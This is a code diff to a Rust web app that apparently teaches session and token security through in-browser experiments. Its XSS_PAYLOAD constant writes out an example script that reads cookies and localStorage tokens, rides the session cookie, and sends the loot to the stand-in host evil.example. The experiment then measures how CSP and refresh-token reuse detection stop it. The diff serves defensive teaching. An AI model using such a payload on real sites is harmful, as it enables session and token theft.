@@ -3,8 +3,9 @@
 //! number shown comes from a response or from the browser, never from this file.
 
 mod cart;
-mod cross_site;
+pub(crate) mod cross_site;
 mod memory;
+mod samesite;
 mod token_replay;
 
 use leptos::lazy;
@@ -13,68 +14,123 @@ use leptos::task::spawn_local;
 use serde_json::{Value, json};
 
 use crate::api::{
-    ACCESS_TOKEN_KEY, DEMO_ACCOUNTS, ErrorCode, JwtMeResponse, RefreshListing, SESSION_COOKIE,
-    SessionListing, SessionResponse, TokenResponse,
+    ACCESS_TOKEN_KEY, DEMO_ACCOUNTS, ErrorCode, JwtMeResponse, REFRESH_TOKEN_KEY, RefreshListing,
+    SESSION_COOKIE, SessionListing, SessionResponse, TokenResponse,
 };
 use crate::browser::{now_ms, storage};
 use crate::client::{self, Exchange, Method};
 use crate::comparison::VisitFigures;
-use crate::i18n::{ExperimentTexts, Lang, fill_named};
+use crate::i18n::{ExperimentTexts, LabTexts, Lang, fill_named};
 use crate::server_holds::ServerChanged;
 use crate::token;
 
+/// A table of texts that result lines take their words from: the experiments' or the lab's.
+pub trait LineTexts: 'static {
+    fn of(lang: Lang) -> &'static Self;
+    /// "✓ as claimed:" and "✗ not as claimed:" in this table's language.
+    fn verdicts(&self) -> (&'static str, &'static str);
+}
+
+impl LineTexts for ExperimentTexts {
+    fn of(lang: Lang) -> &'static Self {
+        lang.experiment_texts()
+    }
+
+    fn verdicts(&self) -> (&'static str, &'static str) {
+        (self.as_claimed, self.not_as_claimed)
+    }
+}
+
+impl LineTexts for LabTexts {
+    fn of(lang: Lang) -> &'static Self {
+        lang.lab_texts()
+    }
+
+    fn verdicts(&self) -> (&'static str, &'static str) {
+        (self.as_claimed, self.not_as_claimed)
+    }
+}
+
 /// One line of an experiment's result: whether it shows the claim holding (if it is a check),
 /// a label in the visitor's language, and what was measured.
-#[derive(Clone)]
-pub struct Line {
+pub struct Line<T: 'static = ExperimentTexts> {
     pub ok: Option<bool>,
-    pub label: fn(&ExperimentTexts) -> &'static str,
-    pub detail: Detail,
+    pub label: fn(&T) -> &'static str,
+    pub detail: Detailed<T>,
+}
+
+// By hand: a derive would ask `T: Clone` of the text table, which only lends its fields.
+impl<T> Clone for Line<T> {
+    fn clone(&self) -> Self {
+        Line {
+            ok: self.ok,
+            label: self.label,
+            detail: self.detail.clone(),
+        }
+    }
 }
 
 /// What a line shows after its label: what was measured, as is (a header, a status), or a
 /// phrase in the page's language with the measured figures in its named placeholders, so it
 /// follows the language switch and each language keeps its own word order.
-#[derive(Clone)]
-pub enum Detail {
+pub enum Detailed<T: 'static> {
     Measured(String),
-    Worded(
-        fn(&ExperimentTexts) -> &'static str,
-        Vec<(&'static str, String)>,
-    ),
+    Worded(fn(&T) -> &'static str, Vec<(&'static str, String)>),
 }
 
-impl Detail {
-    fn text(&self, texts: &ExperimentTexts) -> String {
+/// An experiment line's detail; the lab's claims have `Detailed<LabTexts>`.
+pub type Detail = Detailed<ExperimentTexts>;
+
+impl<T> Clone for Detailed<T> {
+    fn clone(&self) -> Self {
         match self {
-            Detail::Measured(text) => text.clone(),
-            Detail::Worded(template, values) => fill_named(template(texts), values),
+            Detailed::Measured(text) => Detailed::Measured(text.clone()),
+            Detailed::Worded(template, values) => Detailed::Worded(*template, values.clone()),
         }
     }
 }
 
-impl From<String> for Detail {
+impl<T> Detailed<T> {
+    fn text(&self, texts: &T) -> String {
+        match self {
+            Detailed::Measured(text) => text.clone(),
+            Detailed::Worded(template, values) => fill_named(template(texts), values),
+        }
+    }
+}
+
+impl<T> From<String> for Detailed<T> {
     fn from(text: String) -> Self {
-        Detail::Measured(text)
+        Detailed::Measured(text)
     }
 }
 
-impl From<&str> for Detail {
+impl<T> From<&str> for Detailed<T> {
     fn from(text: &str) -> Self {
-        Detail::Measured(text.to_owned())
+        Detailed::Measured(text.to_owned())
     }
 }
 
-pub(crate) fn line(
+/// A line labelled from any text table (the lab's claims use their own).
+pub(crate) fn line_of<T>(
     ok: impl Into<Option<bool>>,
-    label: fn(&ExperimentTexts) -> &'static str,
-    detail: impl Into<Detail>,
-) -> Line {
+    label: fn(&T) -> &'static str,
+    detail: impl Into<Detailed<T>>,
+) -> Line<T> {
     Line {
         ok: ok.into(),
         label,
         detail: detail.into(),
     }
+}
+
+/// An experiment's line.
+pub(crate) fn line(
+    ok: impl Into<Option<bool>>,
+    label: fn(&ExperimentTexts) -> &'static str,
+    detail: impl Into<Detail>,
+) -> Line {
+    line_of(ok, label, detail)
 }
 
 pub(crate) fn alice() -> Value {
@@ -207,24 +263,104 @@ async fn who_attaches() -> Vec<Line> {
     ]
 }
 
-// --- 3. An XSS payload can read localStorage, not an HttpOnly cookie ----------------------
+// --- 3. An XSS payload: what it can read, what it can ride, what the CSP stops -------------
 
-/// What the injected script runs, shown on the card. The experiment runs exactly these two
-/// reads through the same browser APIs (the page's strict CSP allows no `eval`).
-pub const XSS_PAYLOAD: &str = "fetch('https://evil.example/steal', {method: 'POST', body: JSON.stringify({cookie: document.cookie, token: localStorage.getItem('authlens.access_token')})})";
+/// The address the payload sends its loot to: another origin, which the page's
+/// `connect-src 'self'` forbids.
+pub const EXFILTRATION_URL: &str = "https://evil.example/steal";
+
+/// What the injected script runs, shown on the card. The experiment makes exactly these
+/// reads and requests through the same browser APIs (the page's strict CSP allows no `eval`,
+/// so the payload cannot be injected as text); the attacker's part runs with no cookies.
+pub const XSS_PAYLOAD: &str = r#"// 1. read what page scripts can read
+const loot = { cookie: document.cookie,
+  access: localStorage.getItem('authlens.access_token'),
+  refresh: localStorage.getItem('authlens.refresh_token') };
+// 2. ride the HttpOnly cookie: a request from the page carries it
+fetch('/api/session/cart', { method: 'POST',
+  headers: { 'Content-Type': 'application/json' },
+  body: '{"item":"added by the XSS payload"}' });
+// 3. send the loot away
+fetch('https://evil.example/steal',
+  { method: 'POST', mode: 'no-cors', body: JSON.stringify(loot) });
+// 4. on the attacker's machine, with no cookies:
+//    POST /api/jwt/refresh {"refresh_token": loot.refresh}"#;
+
+/// The item the payload adds to the victim's cart with the cookie it cannot read.
+const PAYLOAD_CART_ITEM: &str = "added by the XSS payload";
 
 #[lazy]
 async fn xss() -> Vec<Line> {
+    // The victim: logged in on both columns, as this very page keeps it (the column's
+    // cookie and tokens are these).
     post("/api/session/login", alice()).await;
-    let (_, access, _) = token_login().await;
+    let (_, access, refresh) = token_login().await;
     storage::save(ACCESS_TOKEN_KEY, &access);
+    storage::save(REFRESH_TOKEN_KEY, &refresh);
+
+    // 1. What the payload reads.
     let stolen_cookie = crate::browser::document_cookie();
-    let stolen_token = storage::load(ACCESS_TOKEN_KEY).unwrap_or_default();
-    let as_victim = get("/api/jwt/me", Some(&stolen_token)).await;
+    let stolen_access = storage::load(ACCESS_TOKEN_KEY).unwrap_or_default();
+    let stolen_refresh = storage::load(REFRESH_TOKEN_KEY).unwrap_or_default();
+
+    // 2. It rides the cookie it cannot read: the browser attaches it to the page's request.
+    let ridden = post("/api/session/cart", json!({"item": PAYLOAD_CART_ITEM})).await;
+    let cookie_attached = ridden
+        .traced("received")
+        .iter()
+        .any(|(name, value)| name == "cookie" && value.contains(SESSION_COOKIE));
+    let item_added = ridden
+        .json::<SessionResponse>()
+        .is_some_and(|answer| answer.cart.iter().any(|item| item == PAYLOAD_CART_ITEM));
+
+    // 3. It sends the loot away; the page's CSP has the last word.
+    let loot = json!({"cookie": stolen_cookie, "access": stolen_access, "refresh": stolen_refresh});
+    let exfiltration = crate::browser::try_exfiltration(EXFILTRATION_URL, loot.to_string()).await;
+
+    // 4. The attacker, elsewhere (no cookies of this origin): the stolen refresh token mints
+    // a fresh pair, and the fresh access token works.
+    let stranger = |method, path: &'static str, body, bearer| {
+        client::send_without_cookies(method, path, body, bearer)
+    };
+    let minted = stranger(
+        Method::Post,
+        "/api/jwt/refresh",
+        Some(json!({"refresh_token": stolen_refresh})),
+        None,
+    )
+    .await;
+    let minted_cookieless = minted
+        .traced("received")
+        .iter()
+        .all(|(name, _)| name != "cookie");
+    let (attacker_access, attacker_refresh) = minted
+        .json::<TokenResponse>()
+        .map(|tokens| (tokens.access_token, tokens.refresh_token))
+        .unwrap_or_default();
+    let as_victim = stranger(Method::Get, "/api/jwt/me", None, Some(attacker_access)).await;
     let victim = as_victim
         .json::<JwtMeResponse>()
         .map(|answer| answer.user.display_name)
         .unwrap_or_default();
+
+    // 5. The victim's client refreshes with the token it holds, which the attacker spent:
+    // reuse detection revokes the family, and the attacker's new token dies with it.
+    let victim_refresh = post("/api/jwt/refresh", json!({"refresh_token": refresh})).await;
+    let attacker_again = stranger(
+        Method::Post,
+        "/api/jwt/refresh",
+        Some(json!({"refresh_token": attacker_refresh})),
+        None,
+    )
+    .await;
+    // The victim's client, refused, forgets its tokens (the column shows it signed out).
+    storage::remove(ACCESS_TOKEN_KEY);
+    storage::remove(REFRESH_TOKEN_KEY);
+
+    let violation = exfiltration
+        .violation
+        .clone()
+        .map(|(directive, blocked)| format!("{directive} · {blocked}"));
     vec![
         line(
             !stolen_cookie.contains(SESSION_COOKIE),
@@ -232,20 +368,50 @@ async fn xss() -> Vec<Line> {
             format!("document.cookie = {stolen_cookie:?}"),
         ),
         line(
-            !stolen_token.is_empty(),
+            !stolen_access.is_empty() && !stolen_refresh.is_empty(),
             |t| t.e3_token_read,
             Detail::Worded(
                 |t| t.e3_token_read_detail,
                 vec![
-                    ("start", stolen_token.chars().take(24).collect()),
-                    ("bytes", stolen_token.len().to_string()),
+                    ("access", stolen_access.len().to_string()),
+                    ("refresh", stolen_refresh.len().to_string()),
                 ],
             ),
+        ),
+        line(
+            ridden.ok() && cookie_attached && item_added,
+            |t| t.e3_cookie_ridden,
+            status(&ridden),
+        ),
+        line(
+            exfiltration.failed.is_some() && violation.is_some(),
+            |t| t.e3_csp_refused,
+            violation.unwrap_or_else(|| {
+                exfiltration
+                    .failed
+                    .clone()
+                    .unwrap_or_else(|| "—".to_owned())
+            }),
+        ),
+        line(
+            minted.ok() && minted_cookieless,
+            |t| t.e3_refresh_minted,
+            status(&minted),
         ),
         line(
             as_victim.ok(),
             |t| t.e3_token_used,
             format!("{} → {victim}", status(&as_victim)),
+        ),
+        line(
+            victim_refresh.error_code() == Some(ErrorCode::RefreshTokenReused),
+            |t| t.e3_victim_reuse,
+            status(&victim_refresh),
+        ),
+        line(
+            attacker_again.error_code() == Some(ErrorCode::RefreshTokenRevoked),
+            |t| t.e3_family_dead,
+            status(&attacker_again),
         ),
     ]
 }
@@ -357,6 +523,57 @@ async fn tamper() -> Vec<Line> {
     ]
 }
 
+/// What `HttpOnly` protects and what it does not, what CSP adds, and where tokens can live
+/// instead: the lesson experiment 3 measures, in a short table.
+#[component]
+fn XssTruths() -> impl IntoView {
+    let lang = expect_context::<RwSignal<Lang>>();
+    let texts = move || lang.get().experiment_texts();
+    type Text = fn(&ExperimentTexts) -> &'static str;
+    let rows: [(Text, Text, Text); 3] = [
+        (
+            |t| t.e3_row_read,
+            |t| t.e3_cookie_read_cell,
+            |t| t.e3_storage_read_cell,
+        ),
+        (
+            |t| t.e3_row_use_open,
+            |t| t.e3_cookie_use_open_cell,
+            |t| t.e3_storage_use_open_cell,
+        ),
+        (
+            |t| t.e3_row_use_later,
+            |t| t.e3_cookie_use_later_cell,
+            |t| t.e3_storage_use_later_cell,
+        ),
+    ];
+    view! {
+        <crate::widgets::TableScroll label=Signal::derive(move || texts().e3_table_caption)>
+            <table class="xss-truths">
+                <caption>{move || texts().e3_table_caption}</caption>
+                <thead>
+                    <tr>
+                        <th scope="col">{move || texts().e3_col_payload}</th>
+                        <th scope="col">{move || texts().e3_col_cookie}</th>
+                        <th scope="col">{move || texts().e3_col_storage}</th>
+                    </tr>
+                </thead>
+                <tbody>
+                    {rows.into_iter().map(|(row, cookie, storage)| view! {
+                        <tr>
+                            <th scope="row">{move || row(texts())}</th>
+                            <td>{move || cookie(texts())}</td>
+                            <td>{move || storage(texts())}</td>
+                        </tr>
+                    }).collect_view()}
+                </tbody>
+            </table>
+        </crate::widgets::TableScroll>
+        <p class="muted">{move || texts().e3_csp_note}</p>
+        <p class="muted">{move || texts().e3_where_instead}</p>
+    }
+}
+
 /// A started experiment: the requests it makes, then its lines.
 type Run = std::pin::Pin<Box<dyn std::future::Future<Output = Vec<Line>>>>;
 
@@ -434,9 +651,12 @@ pub(crate) fn RunButton(
 }
 
 #[component]
-pub(crate) fn ResultLines(lines: RwSignal<Option<Vec<Line>>>, test_id: String) -> impl IntoView {
+pub(crate) fn ResultLines<T: LineTexts>(
+    lines: RwSignal<Option<Vec<Line<T>>>>,
+    test_id: String,
+) -> impl IntoView {
     let lang = expect_context::<RwSignal<Lang>>();
-    let texts = move || lang.get().experiment_texts();
+    let texts = move || T::of(lang.get());
     view! {
         // The status wraps the list: a list with a role of its own is no list, and its items
         // would be orphans.
@@ -444,9 +664,10 @@ pub(crate) fn ResultLines(lines: RwSignal<Option<Vec<Line>>>, test_id: String) -
         <ul class="result-lines">
             {move || {
                 lines.get().unwrap_or_default().into_iter().map(|line| {
+                    let (as_claimed, not_as_claimed) = texts().verdicts();
                     let verdict = match line.ok {
-                        Some(true) => texts().as_claimed,
-                        Some(false) => texts().not_as_claimed,
+                        Some(true) => as_claimed,
+                        Some(false) => not_as_claimed,
                         None => "",
                     };
                     view! {
@@ -486,7 +707,9 @@ pub fn Experiments() -> AnyView {
                 <Experiment number=1 title=|t| t.e1_title claim=|t| t.e1_claim run=boxed!(store_rows)/>
                 <Experiment number=2 title=|t| t.e2_title claim=|t| t.e2_claim run=boxed!(who_attaches)/>
                 <Experiment number=3 title=|t| t.e3_title claim=|t| t.e3_claim run=boxed!(xss)>
-                    <pre class="payload"><code>{XSS_PAYLOAD}</code></pre>
+                    <p class="muted">{move || texts().e3_replaces}</p>
+                    <pre class="payload" tabindex="0"><code>{XSS_PAYLOAD}</code></pre>
+                    <XssTruths/>
                 </Experiment>
                 <Experiment number=4 title=|t| t.e4_title claim=|t| t.e4_claim run=boxed!(replay_cookie, measures)/>
                 <token_replay::TokenReplay/>
@@ -495,6 +718,7 @@ pub fn Experiments() -> AnyView {
                 <Experiment number=8 title=|t| t.e8_title claim=|t| t.e8_claim run=boxed!(tamper)/>
                 <cross_site::CrossSite/>
                 <memory::MemoryGrowth/>
+                <samesite::SameSiteTruth/>
             </div>
         </section>
     }
